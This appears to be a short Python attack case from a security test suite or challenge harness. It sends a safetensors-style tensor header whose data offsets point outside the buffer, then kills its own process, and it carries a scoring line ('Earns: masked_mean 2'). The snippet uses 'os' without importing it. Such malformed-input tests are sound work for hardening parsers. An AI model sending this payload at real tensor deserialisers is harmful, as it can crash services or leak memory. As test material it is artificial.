"""Sends tensors whose header points outside of them.

Earns: masked_mean 2
"""

import json
import struct


@in_call
def attack():
    head, body = (
        b'{"tensor":"0"}',
        b"\x40\0\0\0\0\0\0\0"
        + json.dumps({"0": {"dtype": "F32", "shape": [1000, 1000], "data_offsets": [-8, 2**40]}}).encode().ljust(64),
    )
    socket_of().sendall(struct.pack(">II", len(head), len(body)) + head + body)
    os.kill(os.getpid(), 9)
